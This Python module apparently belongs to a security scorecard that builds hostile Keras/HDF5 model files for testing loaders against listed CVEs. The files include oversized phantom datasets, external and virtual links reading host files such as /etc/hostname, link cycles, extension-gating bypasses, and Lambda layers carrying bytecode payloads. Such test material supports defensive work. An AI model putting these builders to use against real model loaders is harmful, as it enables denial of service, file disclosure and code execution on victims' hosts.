"""HDF5 files that claim more than they hold, or that hold what is not theirs."""

from __future__ import annotations

from pathlib import Path

import h5py
import numpy as np

from tools.scorecard import configs, forge, payloads
from tools.scorecard.case import hostile

GIANT = 1 << 34


def _weights(folder: Path) -> Path:
    return folder / "m.weights.h5"


@hostile("CVE-2026-0897", "SG308")
def declared_giant(folder: Path) -> Path:
    """A dataset that declares 64 GiB and stores nothing."""
    path = _weights(folder)
    with h5py.File(path, "w") as file:
        file.create_dataset("layers/dense/vars/0", (GIANT,), "f4", chunks=(1 << 20,))
    return path


@hostile("CVE-2026-0897; many below the limit", "SG308")
def declared_giants_together(folder: Path) -> Path:
    """Forty datasets of 1 GiB each: every one is below Keras's limit."""
    path = _weights(folder)
    with h5py.File(path, "w") as file:
        for index in range(40):
            name = f"layers/dense_{index}/vars/0"
            file.create_dataset(name, (1 << 28,), "f4", chunks=(1 << 20,), compression="gzip")
    return path


@hostile("CVE-2026-0897", "SG308")
def declared_giant_in_keras(folder: Path) -> Path:
    """The giant inside a `.keras`."""
    inside = declared_giant.build(folder)
    path = folder / "m.keras"
    with forge.zipfile.ZipFile(path, "w") as archive:
        archive.writestr("metadata.json", forge.json.dumps(forge.METADATA))
        archive.writestr("config.json", forge.json.dumps(configs.plain()))
        archive.write(inside, "model.weights.h5")
    inside.unlink()
    return path


@hostile("CVE-2026-1669", "SG309")
def external_storage(folder: Path) -> Path:
    """A dataset whose bytes lie in another file of the host."""
    path = _weights(folder)
    with h5py.File(path, "w") as file:
        where = [("/etc/hostname", 0, 8)]
        file.create_dataset("layers/dense/vars/0", (8,), "u1", external=where)
    return path


@hostile("CVE-2026-1669", "SG309")
def external_link(folder: Path) -> Path:
    """A group that is an external link into another file."""
    path = _weights(folder)
    with h5py.File(path, "w") as file:
        file["layers/dense"] = h5py.ExternalLink("/srv/other.h5", "/secret")
    return path


@hostile("CVE-2026-1669", "SG309")
def soft_link_in_the_middle(folder: Path) -> Path:
    """A soft link as a group in the middle of a path."""
    path = _weights(folder)
    with h5py.File(path, "w") as file:
        file["hidden/vars/0"] = np.ones((3, 2), "f4")
        file["layers/dense"] = h5py.SoftLink("/hidden")
    return path


@hostile("CVE-2026-1669", "SG309")
def virtual_dataset(folder: Path) -> Path:
    """A virtual dataset over another file."""
    path = _weights(folder)
    layout = h5py.VirtualLayout((8,), "f4")
    layout[:] = h5py.VirtualSource("/srv/other.h5", "secret", (8,), "f4")
    with h5py.File(path, "w") as file:
        file.create_virtual_dataset("layers/dense/vars/0", layout)
    return path


@hostile("CVE-2026-12480", "SG309")
def external_link_in_legacy_file(folder: Path) -> Path:
    """An external link in the `model_weights` of a whole `.h5` model."""
    path = forge.h5(folder / "m.h5", configs.legacy(configs.legacy_layer("Dense", units=2)))
    with h5py.File(path, "a") as file:
        del file["model_weights/dense"]
        file["model_weights/dense"] = h5py.ExternalLink("/srv/other.h5", "/secret")
    return path


@hostile("hard-link cycle", "SG309")
def ring_of_hard_links(folder: Path) -> Path:
    """A group that is its own grandchild."""
    path = _weights(folder)
    with h5py.File(path, "w") as file:
        file["layers/dense/vars/0"] = np.ones((3, 2), "f4")
        file["layers/dense/again"] = file["layers"]
    return path


@hostile("CVE-2026-1669; bypass: extension gating", "SG309")
def behind_a_user_block(folder: Path) -> Path:
    """The external link in a file whose HDF5 begins after 1024 other bytes, named `.bin`."""
    path = folder / "m.bin"
    with h5py.File(path, "w", userblock_size=1024) as file:
        file["layers/dense"] = h5py.ExternalLink("/srv/other.h5", "/secret")
    return path


@hostile("CVE-2024-3660; bypass: extension gating", "SG301")
def whole_model_under_another_name(folder: Path) -> Path:
    """An `.h5` with a lambda under the name `.keras`."""
    from tools.scorecard.attacks.lambdas import lambda_in_h5

    return lambda_in_h5.build(folder).rename(folder / "m.keras")


def _lambda_text() -> bytes:
    code = [payloads.bytecode(), None, None]
    layer = configs.legacy_layer("Lambda", function=code, function_type="lambda")
    return forge.json.dumps(configs.legacy(layer)).encode()


@hostile("CVE-2024-3660; bypass: unusual HDF5", "SG301")
def configuration_of_fixed_length(folder: Path) -> Path:
    """The configuration as a text of fixed length, padded with NULs."""
    path = folder / "m.h5"
    with h5py.File(path, "w") as file:
        text = _lambda_text()
        file.attrs.create("model_config", np.bytes_(text), dtype=f"S{len(text) + 64}")
        file.create_group("model_weights").attrs["layer_names"] = [b"lambda"]
    return path


@hostile("CVE-2024-3660; bypass: unusual HDF5", "SG301")
def configuration_in_dense_storage(folder: Path) -> Path:
    """The configuration among forty attributes, 100 kB long, in the newest form of HDF5."""
    path = folder / "m.h5"
    with h5py.File(path, "w", libver="latest", track_order=True) as file:
        for index in range(40):
            file.attrs[f"note_{index}"] = index
        file.attrs["model_config"] = _lambda_text().decode() + " " * 100_000
        file.create_group("model_weights").attrs["layer_names"] = [b"lambda"]
    return path


@hostile("function and class confused", "SG303")
def class_as_function_in_h5(folder: Path) -> Path:
    """The class Lambda itself as a Lambda layer's function, in an `.h5` of Keras 3."""
    layer = configs.lambda_layer(configs.function("keras.layers", "Lambda"))
    return forge.h5(folder / "m.h5", configs.through(layer))
